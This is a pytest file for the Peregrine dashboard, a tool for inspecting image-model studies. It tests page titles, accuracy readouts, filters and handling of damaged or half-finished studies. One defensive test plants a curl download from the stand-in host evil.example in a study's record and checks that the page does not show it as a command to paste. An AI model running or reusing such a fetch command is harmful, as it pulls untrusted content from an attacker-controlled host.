"""Every page on full, unlabelled, half-finished, broken and absent studies."""

from __future__ import annotations

import dataclasses
import re
import shutil
import subprocess
import sys
from pathlib import Path
from types import SimpleNamespace
from urllib.parse import parse_qs, urlsplit

import numpy as np
import pytest

from core.analysis.recommendation import advice, recommended, verdict
from core.common.dataframes import numbers
from core.measures.confusions import worst_confusion
from core.measures.feature_rates import feature_differences
from core.measures.highlights import ClassAccuracy
from core.measures.overlap import overlap_scale
from core.measures.slice_features import firing_rows
from core.store import open_study
from core.study.commands import Analyze
from core.study.steps import STEPS, in_analysis
from core.study.writer import StudyWriter
from dashboard.cache import reads
from tests.dashboard.conftest import (
    MAIN,
    all_text,
    drawn_cards,
    forget,
    remember,
    tiles,
    unescaped,
    write_progress,
)
from tests.manifests import edited_manifest
from tests.synthetic import make_study
from tests.tables import rows_where

TITLES = {
    "overview": ".+",  # what was found
    "features": "Features",
    "predicting_errors": "Predicting errors",
    "heatmaps": "Heatmaps",
    "masks": "Masks and mIoU",
    "feature": "Feature",
    "image": "Image",
    "compare": "Compare",
    "errors": "Errors",
    "images": "Images",
    "figures": "Figures",
    "new_study": "New study",
    "try_picture": "Try a picture",
}
VIEWS = tuple(TITLES)


def is_title_of(view: str, title: str) -> bool:
    """Whether a page has its title; a feature with a name has that, and its number in grey."""
    named = r"|.+ :gray\[\\#\d+\]" if view == "feature" else ""
    return re.fullmatch(rf"{TITLES[view]}( \d+)?{named}", title) is not None


DAMAGED = ("quality", "overlap", "concepts")  # tables


def full(studies: Path, **sources: Path) -> str:
    return "demo"


def unlabelled(studies: Path, *, unlabelled_study: Path, **others: Path) -> str:
    shutil.copytree(unlabelled_study, studies / "unlabelled")
    return "unlabelled"


def half_made(studies: Path, **sources: Path) -> str:
    forget(studies / "demo", "neighbours", "probe", "quality")
    write_progress(studies / "demo", stage="probe", unit="epochs")
    return "demo"


def damaged(studies: Path, *, worded_study: Path, **others: Path) -> str:
    folder = shutil.copytree(worded_study, studies / "damaged")
    for table in DAMAGED:
        (folder / f"{table}.parquet").write_bytes(b"nothing")
    return "damaged"


@pytest.mark.parametrize("state", [full, unlabelled, half_made, damaged])
@pytest.mark.parametrize("view", VIEWS)
def test_view__stands_and_has_its_title(view, state, studies, unlabelled_study, worded_study, open_page):
    """On a study of each state; tests/dashboard/test_damage.py damages one table after another."""
    name = state(studies, unlabelled_study=unlabelled_study, worded_study=worded_study)
    app = open_page(view, study=name)
    assert not app.exception
    assert {error.value for error in app.error} == set() or state is damaged
    assert is_title_of(view, app.title[0].value)
    assert bool(app.get("progress")) == (state is half_made)
    if state is unlabelled:
        assert not [box for box in app.multiselect if box.label in ("Class", "Answered as")]


def test_unlabelled_study__nothing_is_said_of_answers(studies, shelf, unlabelled_study, open_page):
    shelf.serve("unlabelled", unlabelled_study)
    app = open_page("overview", study="unlabelled")
    assert not any("accuracy" in metric.label for metric in app.metric)
    app = open_page("heatmaps", study="unlabelled")
    assert "answer" not in all_text(app)
    assert not [order for box in app.selectbox for order in box.options if "confident" in order]
    assert "correctness" not in all_text(open_page("predicting_errors", study="unlabelled"))
    assert "class → answer" not in all_text(open_page("images", study="unlabelled"))


def test_no_evaluation_images__no_page_has_an_accuracy(tmp_path, monkeypatch, open_page):
    make_study(tmp_path / "demo", n_train=2, n_val=0, n_classes=2, epsilon=1.0)
    monkeypatch.setenv("PEREGRINE_STUDIES", str(tmp_path))
    for view in ("overview", "errors", "predicting_errors", "images", "compare"):
        app = open_page(view, study="demo")
        assert not app.exception, view
        said = all_text(app) + " ".join(metric.value for metric in app.metric)
        assert not re.search(r"\d %\*?\*? (correct|wrong)|accuracy, \d", said), (view, said)


def test_no_evaluation_images__the_line_above_the_pictures_ends_there(tmp_path, monkeypatch, open_page):
    make_study(tmp_path / "demo", n_train=2, n_val=0, n_classes=2, epsilon=1.0)
    monkeypatch.setenv("PEREGRINE_STUDIES", str(tmp_path))
    lines = [one.value for one in open_page("images", study="demo").markdown]
    assert "**2** images" in lines and not any(line.endswith(",") for line in lines)


def test_overview__a_doubt_stands_once_and_firing_features_are_those_that_are_active(
    seen, open_page, monkeypatch
):
    study = open_study(seen)
    monkeypatch.setattr("core.analysis.caveats.doubts_on_accuracy", lambda _: ["A doubt."])
    monkeypatch.setattr("core.analysis.caveats.notes_on_accuracy", lambda _: ["A note.", "A doubt."])
    text = all_text(open_page("overview", study=seen.name))
    assert text.count("A doubt.") == text.count("A note.") == 1
    fires = study.vector("firing_count")[study.is_val].mean()
    assert f"{fires:.1f} of them on an average image" in text


def test_overview__features_have_pictures_of_the_images_that_are_counted(seen, open_page):
    study = open_study(seen)
    shown = drawn_cards(open_page(study=seen.name), "overview_features")
    assert shown
    for card in shown:
        fires = firing_rows(study, int(card["id"]), study.is_val)
        rows = {int(urlsplit(one["src"]).path.rpartition("/")[2]) for one in card["pictures"]}
        assert rows <= set(fires.tolist()) and len(rows) == min(3, len(fires)) > 0


def test_overview__lists_a_step_that_only_its_row_knows(studies, open_page, monkeypatch):
    row = dataclasses.replace(STEPS["map"], name="norms", title="Lengths", outputs=("norms",))
    monkeypatch.setitem(STEPS, "norms", row)
    app = open_page(study="demo")
    assert not app.exception
    assert "Lengths" in all_text(app)
    assert f"python -m core norms {studies / 'demo'}" in [code.value for code in app.code]


def test_overview__headline_numbers_have_their_base_rates(studies, open_page):
    app = open_page(study="demo")
    shown = {metric.label: metric.value for metric in app.metric}
    study = open_study(studies / "demo")
    assert shown["Linear probe, accuracy"] == f"{100 * study.summary('probe')['top1']:.1f} %"
    assert any("guessing: 25\N{NO-BREAK SPACE}%" in one.value for one in app.caption)  # no line ends between
    assert "worst class" in all_text(app)
    rates = feature_differences(study, study.is_val, study.is_val & ~study.is_val)["rate"]
    assert shown["Active features"] == f"{(rates > 0).sum():,} of {len(rates):,}"


@pytest.mark.parametrize(
    ("guess", "n", "says"), [(1 / 500, 500, "guessing: 0.2"), (0.004, 8, "8 evaluation images")]
)
def test_overview__few_images_of_a_class_have_no_worst_class(guess, n, says, studies, open_page, monkeypatch):
    known = ClassAccuracy(0.9, 0.8, 0.95, guess=guess, common="a", worst="b", worst_accuracy=0.0, n=n)
    monkeypatch.setattr("dashboard.cache.highlight_reads.class_accuracy", lambda study, population: known)
    said = all_text(open_page(study="demo"))
    assert says in said and ("worst class" in said) == (n == 500)


def test_overview__useless_answers_are_compared_with_the_whole_name_of_a_class(
    studies, open_page, monkeypatch
):
    """The headline shortens it."""
    name = "a class with a very long name of sixty letters"
    known = ClassAccuracy(0.3, 0.2, 0.4, guess=0.33, common=name, worst="b", worst_accuracy=0.0, n=9)
    monkeypatch.setattr("dashboard.cache.highlight_reads.class_accuracy", lambda study, population: known)
    said = all_text(open_page(study="demo"))
    assert f"always “{name}”: 33" in said and "guessing:" not in said


def test_overview__says_that_a_picture_can_be_dropped(seen, open_page):
    (field,) = [one.proto for one in open_page(study=seen.name).get("file_uploader")]
    assert field.label_visibility.value == field.label_visibility.VISIBLE  # else only "Upload" stands there


@pytest.mark.parametrize(("layout", "says"), [("random", True), ("plain", False)])
def test_overview__says_that_a_network_is_not_trained(layout, says, studies, open_page):
    with edited_manifest(studies / "demo") as manifest:
        encoder = manifest["steps"]["embed"]["summary"].setdefault("encoder", {})
        encoder["report"] = {"layout": layout, "matched": 1}
    app = open_page(study="demo")
    assert not app.exception and ("random weights" in all_text(app)) == says


def test_overview__heat_on_the_object_is_that_of_masks_and_miou(seen, open_page):
    study = open_study(seen)
    scale = overlap_scale(study, study.is_val)
    mine = rows_where(scale, (scale["mask"] == "core") & (scale["heatmap"] == "encoder"))
    assert np.isfinite(mine["value"].iloc[0])
    shown = {metric.label: metric.value for metric in open_page(study=seen.name).metric}
    assert shown["Grad-CAM overlap with the object (mIoU)"] == f"{mine['value'].iloc[0]:.2f}"


def test_overview__heatmaps_that_are_yet_to_come_do_not_lack_masks(seen, open_page):
    forget(seen, "heatmaps", "overlap")
    said = all_text(open_page(study=seen.name))
    assert "It needs masks" not in said and "Not computed yet." in said


def test_overview__names_the_recommended_score_and_what_it_is_worth(studies, open_page):
    study = open_study(studies / "demo")
    advised = recommended(study)
    assert advised is not None
    worth = verdict(study, advised.score, study.table("quality_metrics"))
    assert worth is not None and worth.sentence in all_text(open_page(study="demo"))


def test_overview__opens_what_is_to_be_looked_at_first(studies, open_page):
    study = open_study(studies / "demo")
    app = open_page(study="demo")
    (card,) = [one for one in drawn_cards(app, "overview_first") if one["id"] == "confusion"]
    found = worst_confusion(study)
    assert found is not None
    assert card["title"] == f"{found.true} taken for {found.predicted}"
    assert [picture["src"].split("?")[0] for picture in card["pictures"]] == [
        f"thumb/demo/{row}" for row in found.rows[:4]
    ]
    address = urlsplit(card["href"])
    asked = parse_qs(address.query)
    assert address.path == "/errors" and asked["errors_tab"] == ["Confusions"] and "where" not in asked
    assert (asked["failure_true"], asked["failure_predicted"]) == ([found.true], [found.predicted])


@pytest.mark.parametrize("exists", [True, False])
def test_no_studies__friendly_page_with_command(exists, tmp_path, monkeypatch, open_page):
    folder = tmp_path / "none"
    if exists:
        folder.mkdir()
    monkeypatch.setenv("PEREGRINE_STUDIES", str(folder))
    app = open_page()
    assert not app.exception
    build = next(button for button in app.button if button.label == "Build the demo")
    assert not build.disabled
    assert "python -m core demo" in [code.value for code in app.code]  # folded away


def test_running_study__shows_progress_then_opens_by_itself(tmp_path, full_study, monkeypatch, open_page):
    folder = tmp_path / "studies"
    monkeypatch.setenv("PEREGRINE_STUDIES", str(folder))
    write_progress(folder / "demo")
    app = open_page()
    assert not app.exception
    assert 0 < app.get("progress")[0].value <= 25  # a quarter of the first step
    assert f"Step 1 of {len(in_analysis())} · Representations · about" in all_text(app)
    assert "300 of 1,200 images" in all_text(app)
    shutil.rmtree(folder / "demo")
    shutil.copytree(full_study, folder / "demo")
    app.run()
    assert app.metric


def commands(app) -> set[str]:
    """The steps of the commands that a page shows."""
    return {code.value.split()[3] for code in app.code if code.value.startswith("python -m core ")}


def test_half_finished_study__shows_its_next_step_whose_button_waits_while_a_job_runs(studies, open_page):
    half_made(studies)
    overview = open_page(study="demo")  # where nothing moves when a command begins: its button waits
    assert "neighbours" in commands(overview) and overview.button(key="run_overview_next").disabled
    assert "quality" not in commands(open_page("predicting_errors", study="demo"))
    write_progress(studies / "demo", state="done")
    overview = open_page(study="demo")
    assert "neighbours" in commands(overview) and not overview.button(key="run_overview_next").disabled
    assert "quality" in commands(open_page("predicting_errors", study="demo"))


def test_stopped_study__names_reason_and_command(studies, open_page):
    command = Analyze.of(studies / "mine", images="glyphworld", encoder="asset:simclr_glyphworld")
    remember(studies / "mine", command)
    write_progress(studies / "mine", state="failed", error="EncoderError: NaN in cat/1.png")
    said = all_text(open_page(study="mine"))
    assert "NaN in cat" in said
    assert command.shell in said and "studies/new" not in said


def test_stopped_study__of_a_stranger_shows_no_command_to_paste(studies, open_page):
    write_progress(studies / "mine", state="failed", error="x", command=["curl", "evil.example", "-o", "y"])
    app = open_page(study="mine")
    assert not app.exception
    assert not any("evil.example" in code.value for code in app.code)


@pytest.mark.parametrize(
    ("manifest", "says"), [('{"format": 99}', "Update Peregrine"), ("{ half a file", "damaged")]
)
def test_broken_study__clear_error_and_the_others_go_on(manifest, says, studies, open_page):
    (studies / "bad").mkdir()
    (studies / "bad" / "manifest.json").write_text(manifest)
    app = open_page(study="bad")
    assert not app.exception
    assert says in unescaped(app.error[0].value)
    app.selectbox(key="study_field").select("demo").run()
    assert not app.error
    assert app.metric


def test_rewritten_study__next_run_shows_the_new_numbers(studies, open_page):
    app = open_page(study="demo")
    folder = studies / "demo"
    probe = open_study(folder).table("probe")
    with StudyWriter(folder).step("probe", open_study(folder).settings("probe")) as step:
        step.table("probe", probe.assign(correct=np.arange(len(probe)) % 8 == 0))
    app.run()
    expected = open_study(folder).table("probe")["correct"][open_study(folder).is_val].mean()
    assert f"{100 * expected:.1f} %" in [metric.value for metric in app.metric]


def test_deleted_table__the_images_go_on_without_scores(unread, studies, open_page):
    (studies / "demo" / "quality.parquet").unlink()
    app = open_page("images", study="demo")
    assert not app.exception and not app.error
    assert not any(tile["badge"] for tile in tiles(app, "images_gallery"))
    assert "quality.parquet" in all_text(open_page("predicting_errors", study="demo"))


def test_images__link_restores_the_filters(studies, open_page):
    app = open_page("images", study="demo", where="split=val label=ant,bee")
    images = open_study(studies / "demo").images
    held_out = images["split"] == "val"
    expected = (held_out & images["label"].isin(["ant", "bee"])).sum()
    assert f"**{expected}** of {held_out.sum()}" in all_text(app)


def test_images__free_condition(studies, open_page):
    study = open_study(studies / "demo")
    pointers = study.vector("firing_by_feature_ptr")
    feature = int((pointers[1:] - pointers[:-1]).argmax())
    said = all_text(open_page("images", study="demo", where=f"fires={feature}"))
    rows = study.array("firing_by_feature_rows")[pointers[feature] : pointers[feature + 1]]
    assert f"**{study.is_val[rows].sum()}** of {study.is_val.sum()}" in said


def test_images__wrong_condition_is_named_and_left_out(studies, open_page):
    app = open_page("images", study="demo", where="fires=100000")
    assert "no feature 100000" in unescaped(app.info[0].value)
    assert f"**{open_study(studies / 'demo').is_val.sum()}** images" in all_text(app)


def test_images__stale_parts_of_a_link_are_dropped_with_a_note(studies, open_page):
    app = open_page("images", study="demo", where="label=unicorn", image="no/such.png")
    said = unescaped(" ".join(note.value for note in app.info))
    assert "unicorn" in said
    assert "no/such.png" in said
    assert "image" not in app.query_params


def test_images__switches_of_old_links_are_dropped_without_a_note(studies, open_page):
    app = open_page("images", study="demo", images_size="Large", beside_colours="Magma", images_shape="wide")
    assert [note.value for note in app.info if "images_shape" in unescaped(note.value)] and len(app.info) == 1
    assert not {"images_size", "beside_colours", "images_shape"} & set(app.query_params)


def test_images__sorted_by_score(studies, open_page):
    app = open_page("images", study="demo", images_sort="Q-Score, lowest first")
    assert not app.exception
    assert app.selectbox(key="images_sort").value == "Q-Score, lowest first"


def test_image_detail__opens_from_the_link(studies, open_page):
    study = open_study(studies / "demo")
    row = int(study.is_val.nonzero()[0][0])
    app = open_page("images", study="demo", image=study.images["image_id"].iat[row])
    assert not app.exception
    said = all_text(app)
    assert f"True class **{study.images['label'].iat[row]}**" in said
    firing = reads.firing(study, row)
    assert f"{len(firing)} features fire" in said
    assert re.search(r"\d(st|nd|rd|th) percentile", said)
    assert reads.where_it_fires(study, int(firing["feature"].iat[0])) in said  # one count, as on its card


@pytest.mark.slow
def test_dashboard__never_imports_torch(studies):
    script = f"""
import sys
from streamlit.testing.v1 import AppTest
import dashboard.app
app = AppTest.from_file({str(MAIN)!r}, default_timeout=60).run()
for view in {VIEWS[1:]!r}:
    app.switch_page(f"views/{{view}}.py").run()
    assert not app.exception, app.exception
heavy = [name for name in ("torch", "torchvision", "timm", "lightly", "sklearn") if name in sys.modules]
sys.exit(f"imported {{heavy}}" if heavy else 0)
"""
    root = Path(MAIN).parents[1]
    done = subprocess.run([sys.executable, "-c", script], cwd=root, capture_output=True, text=True)
    assert done.returncode == 0, done.stderr[-2000:]


def test_overview__says_how_many_images_could_not_be_read(studies, open_page):
    folder = studies / "demo"
    with edited_manifest(folder) as manifest:
        manifest["steps"]["embed"]["summary"]["n_skipped"] = 2
    assert "(2 more" in all_text(open_page(study="demo"))


def test_overview__counts_the_images_without_a_verdict(partly, studies, open_page):
    study = open_study(partly)
    without = int((study.is_val & study.images["label"].isna().to_numpy()).sum())
    assert without and f"; {without:,} more" in all_text(open_page("", study="partly"))
    assert "; 0 more" not in all_text(open_page("", study="demo"))


@pytest.mark.parametrize(
    ("low", "high", "title"),
    [
        (0.27, 0.36, "Does worse than always answering “bee”"),
        (0.30, 0.38, "Does no better than always answering “bee”"),
        (0.38, 0.45, "A linear probe is right on 42 % of 321 images"),
    ],
)
def test_overview__says_when_a_probe_does_no_better_than_guessing(
    low, high, title, studies, open_page, monkeypatch
):
    """By the interval of the accuracy against the share of the most common class, 37 %."""
    known = ClassAccuracy(
        (low + high) / 2, low, high, guess=0.37, common="bee", worst="ant", worst_accuracy=0.1, n=321
    )
    monkeypatch.setattr("dashboard.cache.highlight_reads.class_accuracy", lambda study, population: known)
    monkeypatch.setattr("core.publish.finding.class_accuracy", lambda study, among: known)
    app = open_page(study="demo")
    assert not app.exception and app.title[0].value.startswith(title)
    assert (f"95 % interval: {100 * low:.1f} to {100 * high:.1f}" in all_text(app)) == (low < 0.37)


def test_overview__follows_the_filter(seen, open_page):
    study, text = open_study(seen), "label=bee"
    bees = study.where(text)
    app = open_page(study=seen.name, where=text)
    assert not app.exception and app.multiselect(key="filter_labels").value == ["bee"]
    shown, said = {metric.label: metric.value for metric in app.metric}, all_text(app)
    assert shown["Linear probe, accuracy"] == f"{100 * bees.summary('probe')['top1']:.1f} %"
    assert f"{bees.n_chosen:,} images" in said and "guessing:" not in said
    rates = numbers(bees.table("features"), "activation_rate")
    assert shown["Active features"] == f"{(rates > 0).sum():,} of {len(rates):,}"
    scale = bees.table("overlap_scale")
    mine = rows_where(scale, (scale["mask"] == "core") & (scale["heatmap"] == "encoder"))
    assert shown["Grad-CAM overlap with the object (mIoU)"] == f"{mine['value'].iloc[0]:.2f}"
    aurocs = bees.table("score_aurocs").rename(columns={"low": "auroc_low", "high": "auroc_high"})
    assert advice(bees, aurocs.rename(columns={"reason": "note"})) in said.replace("**", "")
    pictured = {
        card["id"]: [
            int(picture["src"].split("?")[0].rsplit("/", 1)[-1])
            for picture in card["pictures"]
            if picture["src"].startswith("thumb/")
        ]
        for card in drawn_cards(app, "overview_first")
    }
    assert (bees.images["label"].iloc[pictured.pop("labels", [])] == "bee").all()  # of both splits
    assert all(bees.inside[rows].all() for rows in pictured.values())
    for card in drawn_cards(app, "overview_first"):
        assert parse_qs(urlsplit(card["href"]).query)["where"] == [text]
    firing = numbers(bees.table("features").sort_values("feature"), "activation_rate")
    for card in drawn_cards(app, "overview_features"):
        assert card["subtitle"].startswith(f"fires on {firing[int(card['id'])]:.1f} % of bee, ")


def test_overview__a_card_opens_what_it_counts(seen, open_page, monkeypatch):
    worst = SimpleNamespace(where="split=val label=bee", errors=3, n=4, rest=0.1, rows=np.arange(2))
    monkeypatch.setattr("dashboard.cache.highlight_reads.worst_slice", lambda *_: worst)
    monkeypatch.setattr("dashboard.cache.highlight_reads.background_features", lambda *_: [0, 1])
    cards = {
        card["id"]: card for card in drawn_cards(open_page("overview", study=seen.name), "overview_first")
    }
    asked = {name: parse_qs(urlsplit(cards[name]["href"]).query) for name in ("slice", "background")}
    assert "75 %" in cards["slice"]["title"] and asked["slice"]["slice"] == [worst.where]
    assert asked["slice"]["errors_tab"] == ["Worst slices"]  # whichever part was open before
    assert cards["background"]["title"].startswith("2 ")
    app = open_page("features", study=seen.name, features_verdict=asked["background"]["features_verdict"][0])
    assert app.session_state["features_verdict"] == "On the background"


def test_overview__of_a_filter_without_images(seen, open_page):
    app = open_page(study=seen.name, where="norm=1e9..")
    assert not app.exception
    assert not app.metric


def test_overview__without_labels_shows_either_end_of_the_recommended_score(
    studies, unlabelled_study, open_page
):
    study = open_study(shutil.copytree(unlabelled_study, studies / "unlabelled"))
    app = open_page(study="unlabelled")
    scores = study.table("quality").loc[study.is_val, "distinctiveness"].dropna().sort_values()
    lowest, highest = (
        [int(picture["src"].split("?")[0].rsplit("/", 1)[-1]) for picture in card["pictures"]]
        for card in drawn_cards(app, "overview_first")
    )
    assert (lowest, highest) == (scores.index[:4].tolist(), scores.index[::-1][:4].tolist())
    names = [metric.label for metric in app.metric]
    assert names and not any("accuracy" in name for name in names), "a card without a number"


def test_overview__where_no_classes_are_confused_twice_the_most_confident_errors_come_first(
    studies, open_page
):
    names = tuple(f"class {number:02}" for number in range(60))
    many = make_study(studies / "many", n_train=120, n_val=60, n_features=64, n_classes=60, class_names=names)
    images = reads.images(open_study(many)).frame()
    wrong = images[images["correct"].eq(False).fillna(False) & (images["split"] == "val")]
    confused = wrong.groupby(["label", "predicted"], observed=True).size()
    assert len(wrong) > 1 and confused.max() == 1, "the study has to be of this kind"
    card = drawn_cards(open_page("overview", study="many"), "overview_first")[0]
    assert card["id"] == "confident" and card["title"].startswith(f"{len(wrong)} ")
    assert f"{100 * wrong['confidence'].max():.0f} %" in card["lines"][0]
    app = open_page("images", study="many", where="correct=false", images_sort="Confidence, highest first")
    assert app.selectbox(key="images_sort").value == "Confidence, highest first"
